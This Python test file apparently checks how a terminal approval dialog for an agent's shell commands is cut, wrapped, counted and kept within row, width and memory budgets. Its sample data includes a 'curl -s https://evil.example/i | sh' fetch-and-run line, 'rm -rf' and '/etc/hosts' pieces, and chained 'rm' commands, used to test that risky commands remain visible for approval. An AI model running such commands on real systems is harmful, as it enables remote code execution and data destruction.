    "ls",
    "lsof",
    "/etc/hosts",
    "/etc/hostsbackup",
    "rm -rf",
    "\t",
    "…",
)
LABELS = (
    "input",
    "external path",
    "working directory",
    "full command",
    "requested",
    "edit #1",
    "body",
    "e",
)

short_text = st.text(st.characters(exclude_categories=()), max_size=24)
piece_text = st.lists(st.sampled_from(PIECES + ESCAPES), max_size=8).map("".join)


def field_text(max_repeat: int) -> st.SearchStrategy[str]:
    long_text = st.tuples(
        st.sampled_from(PIECES + ("x", "0123456789")), st.integers(1, max_repeat)
    ).map(lambda pair: pair[0] * pair[1])
    return st.lists(st.one_of(short_text, piece_text, long_text), max_size=3).map("".join)


def payloads(
    max_repeat: int = 3000, max_copies: int = 100, tabs: bool = True
) -> st.SearchStrategy[PromptPayload]:
    text = field_text(max_repeat)
    if not tabs:
        text = text.map(lambda value: value.replace("\t", " "))
    optional = st.none() | text
    label = st.one_of(st.sampled_from(LABELS), short_text)
    if not tabs:
        label = label.map(lambda value: value.replace("\t", " "))
    entry = st.builds(Evidence, label, text, optional, optional)
    evidence = st.tuples(st.lists(entry, max_size=4), st.integers(1, max_copies)).map(
        lambda pair: tuple(pair[0]) * pair[1]
    )

    @st.composite
    def build(draw: st.DrawFn) -> PromptPayload:
        kind = draw(st.sampled_from(PAYLOAD_KINDS))
        forwarded = draw(st.booleans())
        tool = draw(st.none() | st.sampled_from(("bash", "mcp", "read", "deploy")) | text)
        value = draw(st.one_of(text, st.sampled_from(("bash", ""))))
        request = RequestFacts(
            requester=Requester(draw(optional), forwarded, draw(optional)),
            surface=draw(st.one_of(st.sampled_from(("bash", "external_directory", "")), text)),
            tool_name=tool,
            value=value,
            value_label=draw(st.sampled_from(sorted(set(VALUE_LABELS.values())))),
            invoked_tool_name=draw(st.none() | st.sampled_from(("exec_command", "bash")) | text),
            matched_pattern=draw(optional),
            command_context=draw(
                st.none() | st.sampled_from(sorted(COMMAND_CONTEXT_LABELS)) | text
            ),
            executed_unit=draw(st.none() | st.just(value) | text),
            shape=draw(optional),
        )
        entries = draw(evidence)
        if kind == "bash_external_directory":
            flagged = tuple(entry.text for entry in entries[:3])
        else:
            flagged = (value,)
        return PromptPayload(kind, request, entries, flagged=flagged)  # type: ignore[arg-type]

    return build()


budgets = st.builds(
    DialogBudget,
    max_rows=st.integers(1, 60),
    field_max_width=st.integers(1, 2000),
    width=st.integers(20, 200),
)


# ── properties: the bounded view ───────────────────────────────────────────


@given(payloads(), budgets)
def test_bounded_view_matches_the_reference_layout(
    payload: PromptPayload, budget: DialogBudget
) -> None:
    view = render_prompt_dialog(payload, budget)
    lines, elided, core_rows = reference_view(payload, budget)
    assert list(view.lines) == lines
    assert view.elided is elided
    # the invariants the reference encodes, stated on their own
    if core_rows > budget.max_rows:
        assert len(view.lines) == core_rows, "the core alone is over budget: no evidence, no marker"
    else:
        assert len(view.lines) <= budget.max_rows


@given(payloads(), budgets)
def test_bounded_view_fits_the_width_and_shows_every_core_label(
    payload: PromptPayload, budget: DialogBudget
) -> None:
    view = render_prompt_dialog(payload, budget, tracer)
    plain = render_prompt_dialog(payload, budget)
    assert [unmark(line) for line in view.lines] == list(plain.lines), "painting changed the text"
    assert view.elided == plain.elided
    for line in plain.lines:
        assert wc_width(line) <= budget.width, line
        assert "\x1b" not in line
    heads = [line for line in view.lines if line.startswith(L_OPEN)]
    core = expected_core(payload)
    shown = [head[len(L_OPEN) : head.index(L_CLOSE)] for head in heads]
    for (label, _), head in zip(core, shown, strict=False):
        assert head.rstrip(" ") == label
    assert len(shown) >= len(core)
    assert len({cell_width(head) for head in shown}) <= 1, "labels are not aligned"


# ── properties: the complete view ──────────────────────────────────────────


def reassemble(rows: list[str], expected_text: str) -> str:
    """Join a field's rows back into its text: rows continue a logical line until it is complete."""
    out, index = [], 0
    for line in expected_text.split("\n"):
        assert index < len(rows), "fewer rows than logical lines"
        joined = rows[index]
        index += 1
        while joined != line and index < len(rows) and line.startswith(joined):
            joined += rows[index]
            index += 1
        out.append(joined)
    assert index == len(rows), "rows left over"
    return "\n".join(out)


@given(payloads(max_repeat=400, max_copies=3, tabs=False), st.integers(20, 200))
def test_complete_view_reproduces_every_field_verbatim(payload: PromptPayload, width: int) -> None:
    view = render_prompt_dialog(payload, complete_view_budget(width), tracer)
    assert not view.elided
    facts = [(label, text, None) for label, text in expected_core(payload)]
    facts += [(entry.label, entry.text, entry.detail) for entry in payload.evidence]
    heads = [index for index, line in enumerate(view.lines) if line.startswith(L_OPEN)]
    assert len(heads) == len(facts), "every fact has exactly one labelled line"
    bounds = [*heads, len(view.lines)]
    label_width = (
        cell_width(view.lines[0][len(L_OPEN) : view.lines[0].index(L_CLOSE)]) if heads else 0
    )
    narrow = width - (label_width + 3) < NARROW_VALUE_WIDTH
    row_width = NARROW_VALUE_WIDTH if narrow else width - (label_width + 3)
    for number, (label, text, detail) in enumerate(facts):
        block = [unmark(line) for line in view.lines[bounds[number] : bounds[number + 1]]]
        head = view.lines[bounds[number]]
        assert head[len(L_OPEN) : head.index(L_CLOSE)].rstrip(" ") == shown_label(
            label, width
        ).rstrip(" ")
        if narrow:
            assert block[0].endswith(" :")
            assert all(row.startswith(" " * NARROW_INDENT) for row in block[1:])
            rows = [row[NARROW_INDENT:] for row in block[1:]]
        else:
            padded = head[
                len(L_OPEN) : head.index(L_CLOSE)
            ]  # characters, not cells: labels may be wide
            assert block[0][len(padded) : len(padded) + 3] == " : "
            indent = label_width + 3
            assert all(row.startswith(" " * indent) for row in block[1:])
            rows = [block[0][len(padded) + 3 :], *(row[indent:] for row in block[1:])]
        for row in rows:
            assert cell_width(row) <= row_width
        shown = visible(text) + (f"{ARROW}{visible(detail)}" if detail is not None else "")
        assert restore(reassemble(rows, shown)) == text + (
            f"{ARROW}{detail}" if detail is not None else ""
        )


@given(payloads(max_repeat=400, max_copies=3), st.integers(20, 200))
def test_complete_view_matches_the_reference_layout(payload: PromptPayload, width: int) -> None:
    view = render_prompt_dialog(payload, complete_view_budget(width))
    lines, elided, _ = reference_view(payload, complete_view_budget(width))
    assert list(view.lines) == lines
    assert not view.elided and not elided
    for line in view.lines:
        assert wc_width(line) <= width


def test_core_facts_agrees_with_the_stated_rule() -> None:
    payload = make(
        agent="s",
        forwarded=True,
        session="x",
        surface="external_directory",
        invoked="exec_command",
        rule="r",
        value="v",
        runs="u",
        context="subshell",
    )
    assert [(fact.label, fact.text) for fact in core_facts(payload)] == expected_core(payload)


# ── monotone in width, on the corpus ───────────────────────────────────────

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
FIXTURES = sorted(path for path in CORPUS.glob("*/*.json"))


def _shown_span(clean: str, capped: Capped) -> tuple[int, int]:
    """How much of ``clean`` a capped field shows: its head's length from the start and its tail's back from the end."""
    if not capped.cut:
        return len(clean), len(clean)
    end = clean.rstrip(" \n")
    tail = capped.tail if end.endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
    assert clean.startswith(capped.head) and end.endswith(tail)
    return len(capped.head), len(tail)


@pytest.mark.parametrize("path", FIXTURES, ids=lambda path: f"{path.parent.name}/{path.stem}")
def test_a_wider_terminal_never_shows_less_of_any_corpus_field(path: Path) -> None:
    fixture = parse_json(path.read_text(encoding="utf-8"))
    assert isinstance(fixture, dict)
    if "call" not in fixture or "description" not in fixture:
        return  # scenario files live beside the fixtures
    payload = build_payload(fixture["call"], fixture.get("ask"))
    cap = (fixture.get("budget") or {}).get("fieldMaxWidth", 400)
    first = render_prompt_dialog(payload, DialogBudget(width=80, field_max_width=cap)).lines[0]
    column = first.index(" : ") + 3 if " : " in first else 0
    for fact in core_facts(payload) + list(evidence_facts(payload))[:24]:
        for text in (fact.text, fact.detail) if fact.detail is not None else (fact.text,):
            clean = expand_text_tabs(neutralise(text))
            spans = [
                _shown_span(clean, capped_field(text, cap, width - column))
                for width in (80, 120, 160)
            ]
            for narrower, wider in zip(spans, spans[1:], strict=False):
                assert wider[0] >= narrower[0] and wider[1] >= narrower[1], (fact.label, spans)


def test_a_flagged_text_is_painted_wherever_it_shows_whole_counted_in_cells() -> None:
    """Ten characters, nine cells: whole under a cap of 9, so the rule that repeats it is painted (found by hypothesis)."""
    command = "000000000\ufe00"
    payload = build_payload(
        {"name": "bash", "input": {"command": command}}, {"matchedPattern": command}
    )
    lines = render(payload, paint=bracket, max_rows=1, field_max_width=9, width=80).lines
    assert lines[1].endswith(f": [{command}]") and lines[2].endswith(f": [{command}]")


@given(
    st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=120),
    st.integers(1, 500),
    st.integers(1, 130),
)
def test_a_short_plain_field_is_shown_as_the_full_reading_would_show_it(
    text: str, cap: int, row_width: int
) -> None:
    # one line of printable ASCII that fits skips neutralising and cutting: the same result as going through them
    from askbench.impl.cells import cap_text

    rows = field_rows(cap)
    assert askbench.impl.dialog.capped_field(text, cap, row_width) == cap_text(
        neutralise(text), cap, rows, row_width
    )


def test_labels_are_fitted_once_per_text_and_width() -> None:
    askbench.impl.dialog._fitted_label.cache_clear()
    payload = make(value="ls")
    first = render_prompt_dialog(payload, DialogBudget(width=80))
    fitted = askbench.impl.dialog._fitted_label.cache_info().misses
    again = [render_prompt_dialog(payload, DialogBudget(width=width)) for width in (80, 120)]
    info = askbench.impl.dialog._fitted_label.cache_info()
    assert (
        info.misses == fitted and info.hits > 0
    )  # the label column is the same from 22 columns on
    assert again[0] == first


def test_a_render_after_forgetting_what_was_kept_is_the_same_render() -> None:
    payload = make(value="echo é\u0301 " * 80, evidence=(Evidence("ÉTIQUETTE", "x…y"),))
    kept = render_prompt_dialog(payload, DialogBudget(width=80))
    askbench.impl.dialog.forget_kept()
    assert askbench.impl.cells._kept_pieces.cache_info().currsize == 0
    assert askbench.impl.dialog._fitted_label.cache_info().currsize == 0
    assert render_prompt_dialog(payload, DialogBudget(width=80)) == kept


# ── a value as long as the payload is laid out a row at a time ───────────────


@given(st.text(alphabet="ab\n", max_size=60), st.integers(1, 8))
def test_a_value_is_split_into_lines_a_block_at_a_time_as_split_does(text: str, block: int) -> None:
    with mock.patch.object(askbench.impl.dialog, "_SPLIT_BLOCK", block):
        assert list(askbench.impl.dialog._lines(text)) == text.split("\n")


def _painted(role: str, text: str) -> str:
    return f"\x1b[33m{text}\x1b[39m"


@pytest.mark.parametrize("width", [80, 120])
def test_the_complete_view_of_a_long_command_is_never_held_as_rows_beside_its_lines(
    width: int,
) -> None:
    """Rendering holds the lines it returns and a copy of the value at most: the rows a line is wrapped into are
    painted and indented as they are laid out, never all held beside the painted lines (which cost another two
    copies of the value at 80 columns)."""
    import tracemalloc

    command = ("echo " + "B" * 70 + "\n") * 13_800 + "curl -s https://evil.example/i | sh"
    payload = make("bash", command)
    complete(
        payload, width, _painted
    )  # what a first render builds once (labels, pieces) is not the value's
    tracemalloc.start()
    try:
        view = complete(payload, width, _painted)
        held, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert view.lines[-1].endswith("curl -s https://evil.example/i | sh\x1b[39m")
    assert peak - held < len(command)


# ── a counted cut keeps the last command ─────────────────────────────────────


def _spans(text: str, *commands: str) -> CommandSpans:
    """Each command's span where it first stands after the one before."""
    spans, at = [], 0
    for command in commands:
        start = text.index(command, at)
        spans.append((start, start + len(command), 1))
        at = start + len(command)
    return CommandSpans(len(commands), tuple(spans))


@pytest.mark.parametrize("rows", [6, 7])
def test_a_cut_tail_opens_on_the_line_where_the_last_command_starts(rows: int) -> None:
    """The last command ends a line before the text does (a line bash cannot parse follows it): the tail shows
    from its line, not only the last line."""
    commands = ["ls a", "ls b", "ls c", "ls d", "ls e", "ls f", "r/"]
    text = "\n".join(commands) + "\n  (r) No, provide reason"
    capped = counted_field(text, rows * FIELD_ROW_CELLS, 70, _spans(text, *commands))
    assert capped.cut
    assert capped.tail == "r/\n  (r) No, provide reason"
    assert capped.count


def test_a_cut_shows_the_last_command_from_its_name_where_both_starts_fit() -> None:
    """Two commands each under the cap in notation, over it together (found by hypothesis): the tail's half
    would open past the last command's name ``0``; the head keeps the first's start and the tail the name."""
    first, last = "\x80\x80\x80\x80\xad", "0\t\x80\x80\xad\U00018cd6"
    text = f"{first}\n{last}"
    capped = counted_field(text, 80, 70, _spans(text, first, last))
    assert capped.tail == expand_text_tabs(neutralise(last))
    assert capped.head.startswith("\u27e8U+0080\u27e9")


@pytest.mark.parametrize(("cs", "reaches"), [(39, True), (40, False)])
def test_the_head_keeps_a_short_first_command_whole_as_the_tail_reaches_back(
    cs: int, reaches: bool
) -> None:
    """``ls`` and a last command of 64 cells fit 80 together: both show whole. A tail reaches back at most
    ``FIELD_ROW_CELLS``, a row of an 80-column terminal, so one of 65 keeps its half."""
    first, last = "ls", "cat " + "b" * 20 + " " + "c" * cs
    text = f"{first}; {'x' * 30}; {last}"
    capped = counted_field(text, 80, 70, _spans(text, first, "x" * 30, last))
    assert capped.head.startswith("ls;")
    assert (capped.tail == f"{ELLIPSIS}{last}") is reaches


def test_the_head_keeps_the_first_command_start_as_the_tail_reaches_back() -> None:
    """A last command of 70 cells takes all but NAME_KEEP cells of an 80-cell cap from a long first one: the
    tail reaches back no further than that."""
    first = "echo " + "a" * 60
    fits, too_long = "cat " + "b" * 52, "cat " + "b" * 53
    for last, reaches in ((fits, True), (too_long, False)):
        text = f"{first}\n{last}"
        capped = counted_field(text, 80, 70, _spans(text, first, last))
        assert (capped.tail == last) is reaches
        assert len(capped.head) >= NAME_KEEP


def test_a_two_row_field_keeps_its_tail_and_counts_on_a_third_row() -> None:
    """Two rows hold the first command's row and the last's: the count takes a row of its own beside them."""
    commands = [
        "rm rm rm rm rm",
        "rm rm rm rm",
        "rm rm rm rm",
        "bash -c 'rm'",
        "bash -c 'rm rm rm rm'",
    ]
    text = " ; ".join(commands)
    capped = counted_field(text, 80, 70, _spans(text, *commands))
    assert capped.head.startswith(commands[0])
    assert capped.tail.endswith(commands[-1])
    assert capped.count


_LONG_OUTLINE = (
    "cat <<EOF\nx\nEOF\n\u2026 3 more commands \u2026\n"
    + "\n".join(f"echo step{index} && true" for index in range(400))
    + "\n\u2026 2 more commands \u2026"
)


@pytest.mark.parametrize("bounded", [True, False])
def test_a_values_count_row_words_are_set_apart_and_the_outlines_own_count_is_not(
    bounded: bool,
) -> None:
    """Every row that reads as a count row is the renderer's: the command's and the shape's words that read so are
    set apart (``⟨U+2026⟩``), the outline's own ``… N more commands …`` and a cut's count stay as they are."""
    payload = build_payload({"name": "bash", "input": {"command": _LONG_OUTLINE}})
    commands = payload.request.shape_commands
    assert commands is not None and len(commands.own) == 1
    own_line = payload.request.shape.split("\n")[
        payload.request.shape[: commands.own[0]].count("\n")
    ]
    budget = DialogBudget(width=100) if bounded else complete_view_budget(100)
    lines = render_prompt_dialog(payload, budget).lines
    counts = [
        line.strip() for line in lines if re.search(r"\u2026\s*\d+ more commands? \u2026", line)
    ]
    assert counts == (["\u2026 794 more commands \u2026"] if bounded else [own_line])
    assert sum("\u27e8U+2026\u27e9 3 more commands \u2026" in line for line in lines) == 2


def test_a_cut_head_opens_on_the_first_line_that_shows_something() -> None:
    """Blank lines show nothing: a two-row field spent its head row on one and hid the first command below it."""
    commands = ["rm -rf build", "echo " + "a" * 100]
    text = "\n \n\n" + "\n".join(commands)
    capped = counted_field(text, 80, 70, _spans(text, *commands))
    assert capped.cut and capped.head.startswith("rm -rf build")
    # a field that fits keeps its blank lines, shown as written; one that does not, without them, and says so
    assert counted_field("\nls", 80, 70) == Capped("\nls")
    assert counted_field("\n\nls", 80, 70).shown == f"{ELLIPSIS}\nls"


# ── the last command far from the text's end ────────────────────────────────


@pytest.mark.parametrize("body", [20, 200, 20_000])
def test_a_last_command_far_from_the_end_shows_on_a_row_of_its_own(body: int) -> None:
    """A heredoc's body after the last command, farther than the tail reaches: the row between the cuts shows
    the last command's line, the count leaves it out, and the field keeps its cap and its rows."""
    commands = [f"echo step-{n}" for n in range(12)]
    last = "cat > .env.test <<'EOF'"
    text = "\n".join([*commands, last, *(f"KEY_{n}=value-{n}" for n in range(body)), "EOF"])
    cap = 6 * FIELD_ROW_CELLS
    capped = counted_field(text, cap, 70, _spans(text, *commands, last))
    assert capped.middle == f"{last}{ELLIPSIS}"
    assert capped.tail == "EOF"
    hidden = len(commands) - len(set(commands) & set(capped.head.split("\n")))
    assert capped.count == f"{ELLIPSIS} {hidden} more commands {ELLIPSIS}"  # the last is shown
    assert capped.head.startswith("echo step-0\necho step-1")
    shown = capped.shown.split("\n")
    assert len(shown) <= field_rows(cap) + 1
    assert text_cells(capped.head + last + capped.tail) <= cap


@pytest.mark.parametrize("before", range(8, 16))
def test_a_last_command_the_count_row_takes_off_the_head_gets_its_row(before: int) -> None:
    """The head reached the last command until the count's row, taken from the field's rows, shortened it:
    the row was planned only before, and the cut hid the last command (found by askbench fuzz)."""
    head = " ; ".join(f"echo {'x' * 20} {n}" for n in range(before))
    last = "bash -c 'rm rm rm rm'"
    text = f"{head} ; {last}; fi\ncase $1 in esac"
    commands = [f"echo {'x' * 20} {n}" for n in range(before)] + [last]
    cap = 6 * FIELD_ROW_CELLS
    capped = counted_field(text, cap, 70, _spans(text, *commands))
    shown = capped.head + capped.middle + capped.tail
    assert last in shown.replace("\n", ""), capped
    assert len(capped.shown.split("\n")) <= field_rows(cap) + 1


@pytest.mark.parametrize("row_width", range(60, 81))
def test_a_head_that_stops_inside_the_last_commands_words_does_not_show_it(row_width: int) -> None:
    """A head ending ``bash -c 'rm r…`` shows the last command's start, not the command: it gets its row as if
    the head stopped before it, and the rows taken for the count and for it come out of the field's (found by
    askbench mutate: a layout that sets the value below its label gives it 76 cells a row)."""
    url = "https://x.example/i.sh"
    opening = [f"rm rm rm {url} {url} > out"] * 3
    body = ["rm rm rm", *(["rm rm rm rm rm", "rm rm rm rm rm", "bash -c 'rm rm rm rm'"] * 3)]
    text = f"if rm rm ; {' ; '.join(opening)}; then {' ; '.join(body)}; fi\ncase $1 in esac"
    commands = ["rm rm", *opening, *body]
    cap = 400
    capped = counted_field(text, cap, row_width, _spans(text, *commands))
    last_end = text.rindex(body[-1]) + len(body[-1])
    assert (
        capped.head.startswith(text[:last_end]) or body[-1] in capped.middle + capped.tail
    ), capped
    rows = [row for line in capped.shown.split("\n") for row in ref_wrap_line(line, row_width)]
    assert len(rows) <= field_rows(cap) + 1, capped


def test_a_last_command_the_tail_shows_takes_no_row_of_its_own() -> None:
    commands = [f"echo step-{n}" for n in range(40)]
    text = "\n".join(commands)
    capped = counted_field(text, 6 * FIELD_ROW_CELLS, 70, _spans(text, *commands))
    assert capped.tail.endswith("echo step-39") and capped.middle == ""


def test_a_last_command_mid_line_opens_its_row_with_a_marker() -> None:
    """Text that never runs (a line bash cannot parse) after the last command: ``rm`` ends the first line."""
    head = " ; ".join(f"echo {'x' * 30} {n}" for n in range(12))
    text = f"{head} ; rm\n" + "f() { rm https://x.example/i.sh ; " * 8 + "\nEOF"
    commands = [f"echo {'x' * 30} {n}" for n in range(12)] + ["rm"]
    capped = counted_field(text, 6 * FIELD_ROW_CELLS, 70, _spans(text, *commands))
    assert capped.middle == f"{ELLIPSIS}rm{ELLIPSIS}"


def test_a_last_command_whose_line_says_nothing_is_still_the_tail() -> None:
    """``=`` is punctuation, and a command bash runs: the tail shows it, as it shows any last command."""
    commands = ["="] * 8
    text = "\n".join(commands)
    capped = counted_field(text, 6 * FIELD_ROW_CELLS, 70, _spans(text, *commands))
    assert capped.cut and capped.tail == "="


def test_commands_no_span_places_take_no_row_of_their_own() -> None:
    """A count with no span (none of the commands stands near an end): the cut is counted, no row guessed (found by fuzz)."""
    text = "\n".join(f"echo step-{n}" for n in range(40))
    capped = counted_field(text, 6 * FIELD_ROW_CELLS, 70, CommandSpans(40))
    assert capped.cut and capped.middle == "" and capped.count


@pytest.mark.parametrize("rows", [2, 3, 5])
def test_leaving_out_the_blank_lines_a_text_opens_with_is_a_cut_said_on_the_fields_first_row(
    rows: int,
) -> None:
    """What follows the blank lines fits the field whole, the whole text does not: the shown text says that
    something was left out, and takes no more rows than the field has."""
    rest = "\n".join(f"  agent : step {n}" for n in range(rows))
    text = "\n" * 2 + rest
    capped = counted_field(text, rows * FIELD_ROW_CELLS, 70)
    assert capped.cut and capped.shown.startswith(ELLIPSIS + "\n")
    assert capped.shown.count("\n") + 1 <= rows
    assert rows < 3 or capped.shown.endswith(f"  agent : step {rows - 1}")
    whole = counted_field("\n" + rest[: rest.index("\n")], rows * FIELD_ROW_CELLS, 70)
    assert not whole.cut and whole.shown.startswith("\n")


@pytest.mark.parametrize(("hidden", "row_width"), [(15, 20), (185, 20), (185, 18)])
def test_a_cut_on_rows_narrower_than_the_spaced_count_still_counts(
    hidden: int, row_width: int
) -> None:
    """A 40-column terminal beside a 17-cell label column leaves 20-cell value rows: the count goes without its
    blanks, or over two rows, and the field keeps its head, its tail and its rows."""
    commands = [f"rm f{n}" for n in range(hidden + 2)]
    text = " ; ".join(commands)
    capped = counted_field(text, 4 * FIELD_ROW_CELLS, row_width, _spans(text, *commands))
    assert capped.cut and capped.count.startswith(ELLIPSIS) and capped.count.endswith(ELLIPSIS)
    assert all(text_cells(row) <= row_width for row in capped.count.split("\n"))
    count = int(capped.count.strip(ELLIPSIS).split()[0])
    assert 0 < count <= hidden + 2
    assert capped.shown.count("\n") + 1 <= field_rows(4 * FIELD_ROW_CELLS) + 1
